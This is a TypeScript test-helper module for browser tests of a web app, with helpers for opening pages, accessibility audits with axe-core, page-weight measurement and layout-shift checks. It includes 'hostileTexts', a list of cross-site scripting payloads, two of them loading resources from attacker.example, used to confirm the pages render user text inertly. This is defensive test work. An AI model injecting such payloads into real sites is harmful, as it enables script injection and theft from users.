import { readFileSync } from 'node:fs'
import { gzipSync } from 'node:zlib'
import axe from 'axe-core'
import type { Locator, Page } from 'playwright-core'
import { expect, type TestContext } from 'vitest'
import { openTab } from './open-tab.ts'
import type { Tabs } from './stage.ts'

export const phone = { width: 375, height: 812 }
export const desktop = { width: 1440, height: 900 }

/**
 * Opens a page of the program, until the end of the test. Whatever the browser complains of fails the test, but for streams that a test has cut.
 *
 * @param mayFail - addresses that may be out of reach
 */
export async function openPage(
  context: TestContext,
  tabs: Tabs,
  url: string,
  options: PageOptions = {},
): Promise<Page> {
  const { viewport = desktop, colorScheme = 'light', mayFail = /\?tab=/ } = options
  const page = await openTab(context, tabs)
  await page.setViewportSize(viewport)
  await page.emulateMedia({ colorScheme, reducedMotion: null })
  const complaints: string[] = []
  page.on('pageerror', (error) => complaints.push(String(error)))
  page.on('dialog', (dialog) => {
    complaints.push(`a script has opened a dialog: ${dialog.message()}`)
    void dialog.dismiss()
  })
  page.on('console', (message) => {
    const { url: source } = message.location()
    const isExpected = /net::ERR_|status of (?:404|503)/.test(message.text()) && mayFail.test(source)
    if (message.type() !== 'log' && !isExpected) complaints.push(`${message.text()} (${source})`)
  })
  context.onTestFinished(() => expect(complaints).toEqual([]))
  await page.goto(url)
  return page
}

export interface PageOptions {
  readonly viewport?: { readonly width: number; readonly height: number }
  readonly colorScheme?: 'light' | 'dark'
  readonly mayFail?: RegExp
}

/** By the keyboard: a click waits for two frames to be painted, for which a busy machine may find no time. */
export function press(page: Page | Locator, button: string | RegExp): Promise<void> {
  const exact = typeof button === 'string'
  return page.getByRole('button', { name: button, exact }).press('Enter')
}

export async function expectNoSidewaysScroll(page: Page): Promise<void> {
  const { scrollWidth, clientWidth } = await page.evaluate(() => {
    // By its numbers: an element itself does not come out of the page.
    const { scrollWidth, clientWidth } = document.documentElement
    return { scrollWidth, clientWidth }
  })
  expect(clientWidth).toBeGreaterThan(0)
  expect(scrollWidth).toBe(clientWidth)
}

/** What keeps somebody with a screen reader, a keyboard or weak eyes from using the page, as axe-core sees it. */
export async function seriousBarriers(page: Page): Promise<string[]> {
  // Colours are judged at rest: a number that fades in is pale for a fifth of a second.
  await page.emulateMedia({ reducedMotion: 'reduce' })
  // Given to the debugger and not to the page, which would reject a script that is not its own.
  await page.evaluate(axe.source)
  const { violations } = (await page.evaluate('axe.run()')) as axe.AxeResults
  return violations
    .filter(({ impact }) => impact === 'serious' || impact === 'critical')
    .map(({ id, nodes }) => `${id}: ${nodes.map(({ html, failureSummary }) => `${html} ${failureSummary}`).join('; ')}`)
}

/** Bytes over the wire, zipped, of a built page and of all that it loads before it runs. */
export function weightOf(page: string): number {
  const folder = new URL('../../../packages/rejoin/dist/pages/', import.meta.url)
  const html = readFileSync(new URL(`${page}.html`, folder), 'utf8')
  const seen = new Set<string>()
  const load = (name: string): number => {
    if (seen.has(name)) return 0
    seen.add(name)
    const content = readFileSync(new URL(`assets/${name}`, folder))
    const imported = [...content.toString().matchAll(/(?:from|import)\s*["']\.\/([\w-]+\.js)["']/g)]
    return imported.reduce((sum, [, other = '']) => sum + load(other), gzipSync(content).length)
  }
  const named = [...html.matchAll(/"\/pages\/assets\/([\w.-]+)"/g)]
  return named.reduce((sum, [, name = '']) => sum + load(name), gzipSync(html).length)
}

/** Text that would run, call home or break out of its place, if it were taken for anything but text. */
export const hostileTexts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '"><svg onload=alert(1)>',
  "'-alert(1)-'",
  'javascript:alert(1)',
  '</pre><iframe srcdoc="<script>parent.alert(1)</script>">',
  '<style>@import "https://attacker.example/x.css";body{display:none}</style>',
  '{{constructor.constructor("alert(1)")()}}',
  '<a href="javascript:alert(1)" autofocus onfocus=alert(1)>x</a>',
  '\u202etxet desrever\u2066 <base href="https://attacker.example/">',
  `<math><mtext></table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
]

/** Elements that our pages never make, so that one of them was made of a text. */
export function foreignElements(page: Page): Promise<number> {
  return page.locator('body :is(script, iframe, img, style, base, math, object, embed, a[href^="javascript"])').count()
}

/** Runs in the page: how much of it has moved without being asked to, in the measure of Web Vitals. */
export function layoutShift(): Promise<number> {
  return new Promise((resolve) => {
    new PerformanceObserver((list) => {
      const shifts = list.getEntries() as (PerformanceEntry & { value: number; hadRecentInput: boolean })[]
      resolve(shifts.filter(({ hadRecentInput }) => !hadRecentInput).reduce((sum, { value }) => sum + value, 0))
    }).observe({ type: 'layout-shift', buffered: true })
    setTimeout(() => resolve(0), 500)
  })
}
